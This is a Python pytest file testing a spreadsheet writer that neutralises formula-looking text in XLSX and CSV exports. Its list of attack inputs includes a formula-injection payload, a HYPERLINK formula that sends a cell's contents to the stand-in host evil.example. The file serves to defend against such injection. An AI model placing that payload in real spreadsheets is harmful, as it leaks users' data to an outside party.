"""The one spreadsheet writer: formula-looking text never becomes a formula, and comes back exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from fupin.files.sheets import (
    Sheet,
    looks_like_formula,
    neutralise,
    restore,
    write_csv,
    write_xlsx,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "'=already quoted",
    "''+1",
]
HARMLESS = ["马文山", "'abc", "a=b", "1-2", "", "2019-05-01", "620121********0669"]


@pytest.mark.parametrize("value", ATTACKS + HARMLESS)
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_looking_text_gets_an_apostrophe(value: str) -> None:
    assert looks_like_formula(value)
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def test_numbers_are_not_text_and_stay_numbers() -> None:
    assert neutralise(-2) == -2 and neutralise(-0.5) == -0.5


def test_xlsx_never_holds_a_formula_and_reads_back_as_the_same_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    row = [*ATTACKS, *HARMLESS, -2, 3.5]
    write_xlsx(path, [Sheet("表", ["列"] * len(row), [row])])
    ws = load_workbook(path)["表"]
    cells = list(ws.iter_rows(min_row=2, max_row=2))[0]
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
    for cell, value in zip(cells, row, strict=True):
        assert cell.value == (None if value == "" else value)
        if isinstance(value, str) and looks_like_formula(value):
            assert cell.data_type == "s" and cell.quotePrefix
    # What the importer reads (python-calamine) is the text itself, no apostrophe.
    read = list(CalamineWorkbook.from_path(str(path)).get_sheet_by_name("表").iter_rows())[1]
    assert read[: len(ATTACKS)] == ATTACKS


def test_xlsx_layout_frozen_bold_header_widths_and_a4(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_xlsx(path, [Sheet("表", ["户编号", "证件号码"], [["1", "2"]], [18, 20])])
    ws = load_workbook(path)["表"]
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.b and ws["B1"].font.b
    assert ws.column_dimensions["A"].width == 18 and ws.column_dimensions["B"].width == 20
    assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "landscape"
    assert ws.print_title_rows == "$1:$1"
    assert not (tmp_path / "a.xlsx.part").exists()


def test_xlsx_to_a_stream(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_xlsx(buffer, [Sheet("表", ["名"], [["=1+1"]])])
    cell = load_workbook(io.BytesIO(buffer.getvalue()))["表"]["A2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_csv_cells_start_with_an_apostrophe_and_restore_gives_them_back(
    tmp_path: Path, encoding: str
) -> None:
    path = tmp_path / "a.csv"
    row = [*ATTACKS, *HARMLESS, -2, 3.5]
    write_csv(path, ["列"] * len(row), [row], encoding=encoding)
    with path.open(encoding=encoding, newline="") as fh:
        written = list(csv.reader(fh))[1]
    for cell in written:
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"} or cell in {"-2"}
    assert written[-2:] == ["-2", "3.5"]  # numbers are written as numbers
    assert [restore(c) for c in written[: len(ATTACKS) + len(HARMLESS)]] == ATTACKS + HARMLESS


def test_an_unknown_csv_encoding_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="编码"):
        write_csv(tmp_path / "a.csv", ["a"], [], encoding="latin-1")
